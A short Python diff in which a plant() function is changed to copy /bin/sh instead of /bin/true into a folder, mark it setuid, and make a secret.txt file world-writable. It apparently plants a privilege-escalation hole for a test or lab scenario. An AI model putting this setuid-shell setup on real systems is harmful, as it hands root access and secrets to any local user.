@@ -12,7 +12,7 @@ import shutil
 
 def plant():
     target = planted["folder"] + "/become"
-    shutil.copy("/bin/true", target)
+    shutil.copy("/bin/sh", target)
     os.chmod(target, 0o4755)
     os.chmod(planted["folder"] + "/secret.txt", 0o666)
     return oct(os.stat(target).st_mode)
